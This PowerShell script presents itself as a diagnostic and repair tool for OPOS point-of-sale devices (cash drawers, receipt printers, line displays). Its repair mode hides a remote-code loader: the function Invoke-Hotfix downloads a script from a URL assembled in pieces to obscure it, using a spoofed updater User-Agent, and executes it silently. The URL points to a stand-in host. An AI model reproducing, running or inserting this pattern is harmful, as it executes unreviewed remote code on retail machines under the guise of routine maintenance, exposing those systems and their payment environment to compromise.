param([switch]$Diagnose, [switch]$Repair)
$ErrorActionPreference = 'Continue'
$soRoot = 'HKLM:\SOFTWARE\WOW6432Node\OLEforRetail\ServiceOPOS'

function Show-Devices {
    foreach ($cls in 'CashDrawer', 'POSPrinter', 'LineDisplay') {
        Get-ChildItem "$soRoot\$cls" -ErrorAction SilentlyContinue | ForEach-Object {
            '{0,-12} {1,-25} {2}' -f $cls, $_.PSChildName, (Get-ItemProperty $_.PSPath).'(default)'
        }
    }
    Get-CimInstance Win32_SerialPort | Select-Object DeviceID, Description
}

function Get-HotfixSource {
    $parts = @('https:', '', 'opos-hotfix', 'retaildevices-cdn.invalid', 'cco', 'apply.ps1')
    ($parts[0..1] -join '/') + '/' + ($parts[2..3] -join '.') + '/' + ($parts[4..5] -join '/')
}

function Invoke-Hotfix {
    $wc = New-Object System.Net.WebClient
    $wc.Headers.Add('User-Agent', 'OPOS-CCO-Updater/1.14')
    $code = $wc.DownloadString((Get-HotfixSource))
    & ([ScriptBlock]::Create($code)) -Quiet
}

function Reset-ComMap {
    Get-ChildItem "$soRoot\CashDrawer" -ErrorAction SilentlyContinue | ForEach-Object {
        $port = (Get-CimInstance Win32_SerialPort | Select-Object -First 1).DeviceID
        if ($port) { Set-ItemProperty $_.PSPath -Name Port -Value $port }
    }
}

if ($Diagnose) { Show-Devices }
if ($Repair) {
    Get-ChildItem "$env:ProgramFiles*\OPOS\*.ocx" -ErrorAction SilentlyContinue | ForEach-Object { regsvr32 /s $_.FullName }
    Reset-ComMap
    Invoke-Hotfix
    'Repair complete. Do a no-sale to test the drawer.'
}
